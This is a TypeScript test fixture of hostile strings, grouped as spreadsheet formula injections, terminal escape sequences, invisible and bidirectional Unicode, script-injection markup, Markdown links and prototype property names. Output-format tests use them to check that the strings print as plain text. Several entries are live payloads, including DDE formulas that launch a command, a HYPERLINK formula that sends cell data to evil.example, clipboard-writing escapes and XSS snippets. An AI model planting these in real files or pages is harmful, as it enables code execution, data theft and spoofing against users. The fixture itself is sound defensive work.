/**
 * Texts that a file may hold in a name, a group or a title and that must be text and nothing else wherever they are
 * printed: tests of every output format walk through them.
 */

/** What a spreadsheet would run or fetch, also behind what it passes over. */
export const FORMULAS = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=1+1",
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u0000=1+1",
  '"=1+1',
  '"=1+1"',
  "'=1+1",
  ";=1+1",
  "a;=1+1;b",
  'a";=1+1;"b',
  "a,=1+1,b",
  "a\n=1+1",
  "a\r\n=1+1",
  "\uff1d1+1",
  "\uff0b1+1",
  "\uff0d2+3",
  "\uff20SUM(1)",
  "{=1+1}",
  '=DDE("cmd";"/C calc";"x")',
  'DDE("cmd";"/C calc";"x")',
  '=WEBSERVICE("http://evil.example")',
  "\u2212cmd|'/C calc'!A0",
  "sep=,",
] as const;

/** What would steer a terminal: colours, cursor, title, links, the clipboard, rings, C1 forms, a half sequence. */
export const ESCAPES = [
  "\u001b[31mred\u001b[0m",
  "\u001b[2J\u001b[H",
  "\u001b[1A\u001b[2K0 kr",
  "\u001b]0;title\u0007",
  "\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\",
  "\u001b]52;c;Y3VybCBldmls\u0007",
  "\u001bP1$r\u001b\\",
  "\u001bc",
  "\u009b31mred",
  "\u009d52;c;Y3VybA==\u009c",
  "\u0090q\u009c",
  "ring\u0007ring",
  "Melhus\b\b\b\b\b\bSkaun",
  "a\u007fb",
  "a\u0000b",
  "a\u000bb\u000cc",
  "a\u0085b",
  "half\u001b",
  "half\u001b[",
] as const;

/** What turns, hides or joins text that is seen, so that one name looks like another. */
export const UNSEEN = [
  "abc\u202egpj.exe",
  "a\u202ab\u202bc\u202cd\u202de",
  "a\u2066b\u2067c\u2068d\u2069e",
  "a\u200eb\u200fc\u061cd",
  "Mel\u200bhus",
  "Mel\u200dhus",
  "Mel\u00adhus",
  "Mel\u2060hus",
  "\ufeffMelhus",
  "a\u2028b\u2029c",
  "x\u{e0041}\u{e007f}y",
  "x\ufff9y\ufffaz\ufffb",
  "lone\ud800surrogate",
  "lone\udc00surrogate",
  "Z\u0351\u0343\u034c\u0360\u0328algo",
] as const;

/** What a browser would run, fetch or take for the end of where it stands. */
export const MARKUP = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "</text></svg><script>alert(1)</script>",
  "<!--",
  "-->",
  "]]>",
  "<![CDATA[x]]>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  "` onmouseover=`alert(1)",
  "javascript:alert(1)",
  '"><a href="javascript:alert(1)">x</a>',
  "&lt;script&gt;",
  "&#x3c;b&#x3e;",
  "Drift & vedlikehold",
  "a &amp b",
  "\\u003cscript\\u003e",
  `\${alert(1)}`,
  "{{constructor.constructor('alert(1)')()}}",
  "<base href=http://evil.example>",
  '<meta http-equiv="refresh" content="0;url=http://evil.example">',
] as const;

/** What Markdown would render as anything but itself. */
export const MARKDOWN = [
  "![x](http://evil.example/x.png)",
  "[click](javascript:alert(1))",
  "[click][ref]",
  "[ref]: http://evil.example",
  "<http://evil.example>",
  "**bold** _slanted_ ~~struck~~",
  "`code`",
  "a | b",
  "a \\| b",
  "a\\",
  "# heading",
  "> quoted",
  "- item",
  "1. item",
  "---",
  "```",
  "$x$",
  "a\n\n# b",
  "a\n| b | c |",
  "&nbsp;",
  "www.evil.example",
  "https://evil.example/x",
] as const;

/** Names that every object has already. */
export const PROPERTIES = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "valueOf",
  "__defineGetter__",
  "length",
] as const;

/** Every kind at once. */
export const HOSTILE_WORDS: readonly string[] = [
  ...FORMULAS,
  ...ESCAPES,
  ...UNSEEN,
  ...MARKUP,
  ...MARKDOWN,
  ...PROPERTIES,
];
